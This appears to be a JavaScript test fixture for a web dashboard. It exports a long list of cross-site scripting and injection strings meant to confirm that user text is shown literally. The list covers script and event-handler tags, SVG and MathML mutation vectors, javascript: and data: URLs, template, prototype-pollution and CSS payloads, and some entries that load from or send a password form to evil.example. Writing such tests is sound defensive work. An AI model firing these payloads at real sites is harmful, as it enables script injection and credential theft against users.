// Texts that try to become more than text in a page. Each is used as a name, a
// message, a label; all must be shown as the text that they are. A script that
// runs opens a dialog; an injected element has the class `planted` or is one
// that the dashboard never renders.

const tags = [
  `<script>alert(1)</script>`,
  `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
  `<scr<script>ipt>alert(1)</scr</script>ipt>`,
  `"><script>alert(1)</script>`,
  `'><script>alert(1)</script>`,
  `</title><script>alert(1)</script>`,
  `</textarea><script>alert(1)</script>`,
  `</style><script>alert(1)</script>`,
  `--><script>alert(1)</script>`,
  `]]><script>alert(1)</script>`,
  `<script>alert\`1\`</script>`,
  `<script\x09>alert(1)</script>`,
  `<script/x>alert(1)</script>`,
  `<<script>alert(1)//<</script>`,
  `<script type=module>alert(1)</script>`,
  `<iframe class=planted src=javascript:alert(1)></iframe>`,
  `<iframe class=planted srcdoc="<script>parent.alert(1)</script>"></iframe>`,
  `<object class=planted data="data:text/html,<script>alert(1)</script>"></object>`,
  `<embed class=planted src=javascript:alert(1)>`,
  `<base class=planted href=//evil.example/>`,
  `<meta class=planted http-equiv=refresh content="0;url=//evil.example">`,
  `<link class=planted rel=stylesheet href=//evil.example/x.css>`,
  `<style class=planted>*{background:url(//evil.example/x)}</style>`,
  `<form class=planted action=//evil.example><input name=password></form>`,
  `<marquee class=planted onstart=alert(1)>x</marquee>`,
  `<template class=planted><script>alert(1)</script></template>`,
  `<noscript><p class=planted title="</noscript><img src=x onerror=alert(1)>">`,
  `<b class=planted>bold</b>`,
  `<h1 class=planted>Your session has ended</h1>`,
  `<a class=planted href="/settings">settings</a>`,
];

const handlers = [
  `<img class=planted src=x onerror=alert(1)>`,
  `<img class=planted src=x:x onerror=alert(1)//`,
  `<img/class=planted/src=x/onerror=alert(1)>`,
  `<IMG """><SCRIPT>alert(1)</SCRIPT>">`,
  `<body class=planted onload=alert(1)>`,
  `<input class=planted autofocus onfocus=alert(1)>`,
  `<details class=planted open ontoggle=alert(1)>x</details>`,
  `<video class=planted><source onerror=alert(1)></video>`,
  `<audio class=planted src=x onerror=alert(1)>`,
  `<select class=planted autofocus onfocus=alert(1)>`,
  `<div class=planted style="animation-name:x" onanimationstart=alert(1)>`,
  `<p class=planted onmouseover=alert(1)>hover</p>`,
  `<button class=planted popovertarget=x onbeforetoggle=alert(1)>x</button>`,
  `" onmouseover="alert(1)" x="`,
  `' onfocus='alert(1)' autofocus='`,
  `x" autofocus onfocus=alert(1) y="`,
  "` onerror=alert(1) `",
  `\\" onload=\\"alert(1)`,
];

const drawings = [
  `<svg class=planted onload=alert(1)>`,
  `<svg class=planted/onload=alert(1)>`,
  `<svg class=planted><script>alert(1)</script></svg>`,
  `<svg class=planted><animate onbegin=alert(1) attributeName=x dur=1s>`,
  `<svg class=planted><a xlink:href=javascript:alert(1)><text y=9>x</text></a></svg>`,
  `<svg class=planted><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>`,
  `<svg class=planted><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>`,
  `<math class=planted><mi xlink:href=javascript:alert(1)>x</mi></math>`,
  `<math class=planted><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">`,
];

const addresses = [
  `javascript:alert(1)`,
  `JaVaScRiPt:alert(1)`,
  `java\tscript:alert(1)`,
  `java\nscript:alert(1)`,
  ` javascript:alert(1)`,
  `javascript://example.org/%0aalert(1)`,
  `javascript&colon;alert(1)`,
  `&#106;avascript:alert(1)`,
  `vbscript:msgbox(1)`,
  `data:text/html,<script>alert(1)</script>`,
  `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
  `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>`,
  `blob:http://127.0.0.1/x`,
  `file:///etc/passwd`,
  `//evil.example/x`,
  `view-source:javascript:alert(1)`,
  `https://example.org/"onmouseover="alert(1)`,
  `https://example.org/'><img src=x onerror=alert(1)>`,
  `https://javascript:alert(1)@example.org/`,
  `http://[::1]:xx/ http:// https://`,
  `feed:javascript:alert(1)`,
  `mailto:x@example.org?body=<script>alert(1)</script>`,
];

const markdown = [
  `[click](javascript:alert(1))`,
  `[click](JAVASCRIPT:alert(1) "title")`,
  `[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)`,
  `[click][1]\n\n[1]: javascript:alert(1)`,
  `![x](javascript:alert(1))`,
  `![x](x "onerror=alert(1)")`,
  `![x" onerror="alert(1)](https://127.0.0.1:1/x.png)`,
  `<javascript:alert(1)>`,
  "```html\n<script>alert(1)</script>\n```",
  `**<img class=planted src=x onerror=alert(1)>**`,
  `# <b class=planted>x</b>`,
  `| <b class=planted>x</b> |\n|---|`,
];

const templates = [
  `{{constructor.constructor('alert(1)')()}}`,
  `{{7*7}}`,
  "${alert(1)}",
  `#{alert(1)}`,
  `<%= alert(1) %>`,
  `{%raw%}{{alert(1)}}{%endraw%}`,
  `[[\${T(java.lang.Runtime)}]]`,
  `{"$$typeof":"Symbol(react.element)","type":"script"}`,
  `{"__proto__":{"polluted":true}}`,
  `__proto__`,
  `constructor`,
  `toString`,
  `%3Cscript%3Ealert(1)%3C/script%3E`,
  `%s %d %n %x`,
  `$& $1 $\` $'`,
  `=HYPERLINK("https://example.org","x")`,
];

const entities = [
  `&lt;script&gt;alert(1)&lt;/script&gt;`,
  `&#60;img src=x onerror=alert(1)&#62;`,
  `&#x3c;script&#x3e;alert(1)`,
  `&amp;lt;b&amp;gt;`,
  `&nbsp;&ZeroWidthSpace;&Tab;`,
  `\\u003cscript\\u003ealert(1)\\u003c/script\\u003e`,
  `\\x3cscript\\x3ealert(1)`,
  `+ADw-script+AD4-alert(1)+ADw-/script+AD4-`,
];

const unicode = [
  `＜script＞alert(1)＜/script＞`,
  `‹script›alert(1)`,
  `<ſcript>alert(1)</ſcript>`,
  `<\u0130mg src=x onerror=alert(1)>`,
  `\u202Egnp.exe\u202C tfel ot thgir`,
  `\u2067right\u2066left\u2069\u2069 after`,
  `مرحبا <b class=planted>x</b> שלום`,
  `z\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308\u0309\u030a\u030b\u030c\u0315\u031b\u0323`.repeat(6),
  `a\u200Bb\u200Cc\u200Dd\u2060e\uFEFFf`,
  `line\u2028separator\u2029paragraph`,
  `👩‍👩‍👧‍👦🏳️‍🌈👍🏿\u{E0041}`,
  `\u{1F1E6}`.repeat(41),
  `𝕒𝕝𝕖𝕣𝕥(1)`,
  `\uFFFD\uFFFE\uFDD0`,
];

const long = ["W".repeat(90), "WWWWWWWWW-".repeat(9), "ﷺ".repeat(30), `https://example.org/${"a".repeat(70)}`, "(".repeat(60) + ")".repeat(30)];

const styles = [
  `red;background:url(//evil.example/x)`,
  `expression(alert(1))`,
  `}*{display:none}`,
  `"style="position:fixed;inset:0;z-index:999`,
  `@import url(//evil.example/x.css);`,
  `\\3c script\\3e alert(1)`,
  `</style><b class=planted>x</b>`,
];

export const payloads = [...tags, ...handlers, ...drawings, ...addresses, ...markdown, ...templates, ...entities, ...unicode, ...long, ...styles];
